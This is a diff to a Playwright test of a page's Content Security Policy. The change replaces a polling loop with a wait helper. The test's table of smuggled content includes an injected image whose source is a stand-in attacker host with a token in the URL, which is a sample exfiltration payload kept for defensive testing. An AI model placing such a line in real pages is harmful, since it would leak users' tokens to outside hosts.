@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from playwright.sync_api import Page
 
+from tests.browser.waiting import until_on
+
 # What somebody might smuggle into a page, and which of the policy's directives stops it.
 SMUGGLED = {
     "img-src": "put('img', { src: 'https://evil.example/a?token=1' })",
@@ -29,10 +31,8 @@ def test_what_is_smuggled_into_a_page_is_blocked_noticed_and_reported(
     for directive, smuggled in SMUGGLED.items():
         page.goto(app)
         page.evaluate(f"() => {{ {PUT} {smuggled} }}")
-        for _ in range(100):
-            if len(blocked) == 2:
-                break
-            page.wait_for_timeout(50)
+        # Noticed by the page, and reported by the browser.
+        until_on(page, lambda: len(blocked) >= 2)
         assert len(blocked) == 2, directive
         noticed, reported = sorted(blocked, key=lambda words: words.startswith("reported"))
         assert noticed.startswith(f"{directive} blocked ")
